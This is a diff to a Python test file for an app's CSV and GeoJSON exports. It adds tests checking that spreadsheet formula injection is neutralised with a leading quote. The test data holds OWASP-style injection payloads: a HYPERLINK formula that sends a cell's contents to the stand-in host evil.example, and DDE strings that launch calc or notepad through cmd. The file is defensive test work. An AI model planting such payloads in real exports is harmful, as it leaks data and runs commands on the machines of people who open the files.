@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import json
@@ -31,7 +32,7 @@ def read_csv(raw: bytes) -> pd.DataFrame:
 
 def test_csv_is_marked_restricted_by_default_in_a_first_column_on_every_row(data):
     raw = exports.joined_csv(data.incidents, data.sections)
-    assert raw.startswith(b"\xef\xbb\xbfclassification,")  # BOM, then the marking column first
+    assert raw.startswith(b'\xef\xbb\xbf"classification",')  # BOM, then the marking column first
     frame = read_csv(raw)
     assert frame.columns[0] == "classification"
     assert len(frame) == len(data.incidents) and set(frame["classification"]) == {"RESTRICTED"}
@@ -65,7 +66,7 @@ def test_a_column_named_classification_in_the_data_cannot_override_the_marking(d
 
 def test_an_empty_table_still_says_its_marking(data):
     raw = exports.csv_bytes(data.meetings.iloc[0:0], "PUBLIC")
-    assert raw.decode("utf-8-sig").splitlines()[0].startswith("classification,")
+    assert raw.decode("utf-8-sig").splitlines()[0].startswith('"classification",')
 
 
 @pytest.mark.parametrize("bad", ["public", "SECRET", ""])
@@ -74,6 +75,157 @@ def test_unknown_markings_are_refused(data, bad):
         exports.csv_bytes(data.committees, bad)
     with pytest.raises(ValueError, match="PUBLIC, RESTRICTED"):
         exports.sections_geojson(data.sections, bad)
+
+
+# ---------------------------------------------------------------- CSV injection (OWASP)
+
+#: Cells a spreadsheet would run or misread, each beginning with one of the characters OWASP names.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C notepad'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def cells(raw: bytes) -> list[list[str]]:
+    """The CSV's rows as a spreadsheet's import reads them: every field as text, quotes removed."""
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+
+
+def evil_dataset(data):
+    """The tiny dataset with a formula in every text field of every table the Data page exports."""
+    n_inc, n_con = len(data.incidents), len(data.concerns)
+    incidents = data.incidents.assign(incident_id=[FORMULAS[i % len(FORMULAS)] for i in range(n_inc)])
+    concerns = data.concerns.assign(
+        concern_id=[FORMULAS[i % len(FORMULAS)] for i in range(n_con)],
+        description=FORMULAS[0],
+        description_public=True,
+        action_taken=FORMULAS[1],
+    )
+    sections = data.sections.assign(section_name=FORMULAS[2])
+    committees = data.committees.assign(name=FORMULAS[3])
+    meetings = data.meetings.assign(meeting_id=FORMULAS[4])
+    return incidents, concerns, sections, committees, meetings
+
+
+def exported_csvs(data) -> dict[str, bytes]:
+    from geo.report import Report
+
+    incidents, concerns, sections, committees, meetings = evil_dataset(data)
+    report = Report()
+    report.add("bad_date", "incidents", "=evil.csv", "row 3", row=3, field="occurred_at", value=FORMULAS[5])
+    report.add("bad_date", "incidents", "x.csv", "row 4", row=4, field="occurred_at", value="-5")
+    return {
+        "incidents": exports.joined_csv(incidents, sections),
+        "concerns": exports.joined_csv(concerns, sections, concerns=True),
+        "committees": exports.csv_bytes(committees),
+        "meetings": exports.csv_bytes(meetings),
+        "problems": exports.problems_csv(report),
+    }
+
+
+@pytest.mark.parametrize("name", ["incidents", "concerns", "committees", "meetings", "problems"])
+def test_no_csv_export_starts_a_cell_with_a_formula(data, name):
+    raw = exported_csvs(data)[name]
+    rows = cells(raw)
+    starts = [c for row in rows for c in row if c[:1] in exports.FORMULA_START and not c.lstrip("+-").isdigit()]
+    assert starts == [], starts
+    # the text is kept, behind a single quote, and the field is quoted in the file
+    texts = raw.decode("utf-8-sig")
+    neutralised = [c for row in rows for c in row if c.startswith("'") and c[1:] in FORMULAS + ["=evil.csv"]]
+    assert neutralised, rows
+    for c in neutralised:
+        assert '"' + c.replace('"', '""') + '"' in texts
+
+
+def test_control_the_formulas_are_in_the_data_the_exports_are_made_from(data):
+    """Without the neutralisation the same cells would begin with the formula (what the test above would see)."""
+    incidents, concerns, *_ = evil_dataset(data)
+    raw = incidents.to_csv(index=False).encode()
+    assert any(c in FORMULAS for row in cells(raw) for c in row)
+    assert exports.safe_cell(FORMULAS[0]) == "'" + FORMULAS[0]
+
+
+@pytest.mark.parametrize(
+    ("cell", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+383 44 123 456", "'+383 44 123 456"),  # a phone number: a spreadsheet would compute it
+        ("-2+3", "'-2+3"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("-5", "-5"),  # only a number: read as that number, never as a formula
+        ("+3.5", "+3.5"),
+        ("-1,5", "-1,5"),
+        ("-1e-3", "-1e-3"),
+        ("- 5", "'- 5"),
+        ("-", "'-"),
+        ("a=b", "a=b"),  # only the first character counts
+        (" =1", " =1"),
+        ("", ""),
+        (-5, -5),
+        (None, None),
+    ],
+)
+def test_safe_cell(cell, safe):
+    assert exports.safe_cell(cell) == safe
+
+
+def test_numbers_stay_numbers_in_numeric_columns_and_plain_negative_numbers_in_text(data):
+    frame = pd.DataFrame(
+        {
+            "change": [-5, 3, -12],
+            "z": [-1.96, 0.5, float("nan")],
+            "count": pd.array([-1, None, 2], dtype="Int64"),
+            "note": pd.array(["-5", "-5+1", None], dtype="string"),
+        }
+    )
+    raw = exports.csv_bytes(frame)
+    back = read_csv(raw)
+    assert back["change"].tolist() == [-5, 3, -12] and pd.api.types.is_integer_dtype(back["change"])
+    assert back["z"].iloc[0] == -1.96 and pd.isna(back["z"].iloc[2])
+    assert pd.api.types.is_numeric_dtype(back["count"]) and back["count"].iloc[0] == -1
+    assert back["note"].tolist()[:2] == ["-5", "'-5+1"]
+    lines = raw.decode("utf-8-sig").splitlines()
+    assert lines[1] == '"RESTRICTED",-5,-1.96,-1,"-5"'  # numbers bare, text quoted
+    assert lines[2] == '"RESTRICTED",3,0.5,"","\'-5+1"'
+
+
+def test_a_column_name_that_is_a_formula_is_neutralised_too():
+    raw = exports.csv_bytes(pd.DataFrame({"=cmd": ["x"]}))
+    assert cells(raw)[0] == ["classification", "'=cmd"]
+
+
+def test_the_hotspots_csv_of_the_command_line_is_neutralised(tmp_path):
+    from shapely.geometry import box, mapping
+
+    feats = [
+        {
+            "type": "Feature",
+            "properties": {
+                "section_id": sid,
+                "section_name": "S",
+                "municipality": "Prishtinë",
+                "region": "Prishtinë",
+                "population": 1000,
+            },
+            "geometry": mapping(box(21.1 + 0.02 * i, 42.6, 21.12 + 0.02 * i, 42.62)),
+        }
+        for i, sid in enumerate(["=1+1", "@A1", "S3"])
+    ]
+    sections = tmp_path / "sections.geojson"
+    sections.write_text(json.dumps({"type": "FeatureCollection", "features": feats}), encoding="utf-8")
+    incidents = tmp_path / "incidents.csv"
+    incidents.write_text("occurred_at,category,lat,lon\n2024-03-01,theft,42.61,21.11\n", encoding="utf-8")
+    out = tmp_path / "h.csv"
+    args = ["hotspots", "--sections", str(sections), "--incidents", str(incidents), "--out", str(out)]
+    assert main([*args, "--from", "2024-03-01", "--to", "2024-03-31"]) == 0
+    ids = [row[1] for row in cells(out.read_bytes())[1:]]
+    assert sorted(ids) == ["'=1+1", "'@A1", "S3"]
 
 
 # ---------------------------------------------------------------- GeoJSON
